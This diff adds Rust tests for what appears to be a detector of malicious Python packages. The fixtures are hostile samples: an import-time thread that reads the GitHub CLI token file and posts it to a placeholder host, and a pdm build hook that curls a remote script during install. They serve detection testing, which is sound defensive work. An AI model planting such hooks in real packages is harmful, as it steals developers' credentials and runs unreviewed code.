@@ -362,3 +362,97 @@ fn a_data_file_the_package_executes_is_read_as_code_where_it_runs() {
     );
     assert_eq!(scan(&root)["verdict"], "benign");
 }
+
+#[test]
+fn code_reached_through_a_thread_a_method_and_a_third_module_runs_at_import() {
+    // `__init__` starts `_sync.run` in a thread; `run` calls a method of a class from `_gh`
+    // through an instance. Each hop is found in its own round of the cross-file look.
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path().join("chain-0.1");
+    write_package(
+        &root,
+        &[
+            (
+                "chain/__init__.py",
+                "import threading\nfrom . import _sync\nthreading.Thread(target=_sync.run, daemon=True).start()\n",
+            ),
+            (
+                "chain/_sync.py",
+                "import os\nfrom ._gh import GitHub\n\ndef run():\n    token = open(os.path.expanduser('~/.config/gh/hosts.yml')).read()\n    gh = GitHub(token)\n    gh.call('/user/repos')\n",
+            ),
+            (
+                "chain/_gh.py",
+                "import urllib.request\n\nclass GitHub:\n    def __init__(self, token):\n        self.token = token\n\n    def call(self, path):\n        req = urllib.request.Request('https://api.example.invalid' + path, data=self.token.encode())\n        return urllib.request.urlopen(req).read()\n",
+            ),
+        ],
+    );
+    let report = scan(&root);
+    let contexts = evidence_field(&report, "chain/_gh.py", "context");
+    assert!(contexts.iter().any(|c| c == "import"), "{report}");
+    let contexts = evidence_field(&report, "chain/_sync.py", "context");
+    assert!(contexts.iter().any(|c| c == "import"), "{report}");
+    // The read in one module and the send in another, both while loading, are one theft.
+    assert_eq!(report["verdict"], "malicious", "{report}");
+    let moves = report["score_moves"].to_string();
+    assert!(
+        moves.contains("combo:steal-and-send-across-files"),
+        "{report}"
+    );
+}
+
+#[test]
+fn a_method_of_an_imported_class_called_at_import_runs_at_import() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path().join("probe-0.1");
+    write_package(
+        &root,
+        &[
+            (
+                "probe/__init__.py",
+                "from .check import Probe\nProbe().announce()\n",
+            ),
+            (
+                "probe/check.py",
+                "import requests\n\nclass Probe:\n    def announce(self):\n        requests.post('https://status.example.invalid/ping', data={'v': 1})\n\n    def rank(self):\n        requests.head('https://pypi.org/simple/')\n",
+            ),
+        ],
+    );
+    let report = scan(&root);
+    let messages = evidence_field(&report, "probe/check.py", "message");
+    assert!(
+        messages
+            .iter()
+            .any(|m| m.contains("requests.post") && m.ends_with("at import time")),
+        "{report}"
+    );
+    // A method nobody calls while loading stays a run-time call.
+    assert!(
+        messages
+            .iter()
+            .any(|m| m.contains("requests.head") && m.ends_with("when called")),
+        "{report}"
+    );
+}
+
+#[test]
+fn pdm_backends_local_build_hook_runs_at_install() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path().join("crc-0.1");
+    write_package(
+        &root,
+        &[
+            (
+                "pyproject.toml",
+                "[build-system]\nrequires = ['pdm-backend']\nbuild-backend = 'pdm.backend'\n[project]\nname = 'crc'\nversion = '0.1'\n",
+            ),
+            (
+                "pdm_build.py",
+                "import subprocess\n\ndef pdm_build_initialize(context):\n    subprocess.run(['curl', '-s', 'https://x.example.invalid/a.sh', '-o', '/tmp/a.sh'])\n",
+            ),
+            ("src/crc/__init__.py", ""),
+        ],
+    );
+    let report = scan(&root);
+    let contexts = evidence_field(&report, "pdm_build.py", "context");
+    assert!(contexts.iter().all(|c| c == "install"), "{report}");
+}
